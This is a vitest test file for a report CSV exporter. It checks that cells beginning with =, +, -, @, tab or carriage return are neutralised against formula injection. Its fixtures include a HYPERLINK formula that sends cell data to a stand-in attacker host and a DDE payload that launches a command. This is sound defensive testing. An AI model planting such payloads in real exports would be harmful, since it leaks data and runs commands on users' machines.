import { describe, expect, it } from 'vitest';
import { renderCsv } from '../../../domain/reports/render.js';
import { reportModel } from '../../support/report-model.js';

const report = reportModel;

/** The cells of the CSV rows whose first cell is `section` (a minimal RFC 4180 reader). */
function rowsOf(csv: string, section: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows.filter((r) => r[0] === section);
}

describe('CSV formula injection (issue 14): report exports are safe to open in a spreadsheet', () => {
  it('a resident named =HYPERLINK(...) and a good deed titled @SUM(...) come out as text, not formulas', () => {
    const csv = renderCsv(
      report({
        membersShortOfQualityArticle: [
          { residentId: 'R1', name: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
        ],
        goodDeeds: [
          { deedId: 'D1', title: '@SUM(1+1)*cmd|" /C calc"!A0', date: '2026-07-02', residentIds: ['R1'] },
        ],
      }),
    );
    expect(rowsOf(csv, 'short-of-article')[0]![1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rowsOf(csv, 'good-deed')[0]![1]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
  });

  it.each([['=1+1'], ['+1+1'], ['-1+1'], ['@A1'], ['\t=1+1'], ['\r=1+1']])(
    'neutralises a cell starting with %j by prefixing a single quote',
    (title) => {
      const csv = renderCsv(
        report({
          nextPeriod: {
            name: '2026-Q4',
            activities: [{ activityId: 'A', title, category: 'festival', start: '2026-10-01T00:00:00.000Z' }],
          },
        }),
      );
      expect(rowsOf(csv, 'next-period')[0]![1]).toBe(`'${title}`);
    },
  );

  it('leaves ordinary text and the figures the report computes as they are', () => {
    const csv = renderCsv(
      report({
        categories: [{ category: 'festival', planned: 3, held: 2 }],
        goodDeeds: [{ deedId: 'D1', title: 'Helped, "kindly"', date: '2026-07-02', residentIds: ['R1'] }],
      }),
    );
    const blank = ['', '', ''];
    expect(rowsOf(csv, 'activities')[0]).toEqual([
      'activities',
      'festival',
      '2026-Q3',
      '3',
      '2',
      '',
      ...blank,
    ]);
    expect(rowsOf(csv, 'good-deed')[0]).toEqual([
      'good-deed',
      'Helped, "kindly"',
      '2026-07-02',
      '1',
      '',
      '',
      ...blank,
    ]);
  });
});
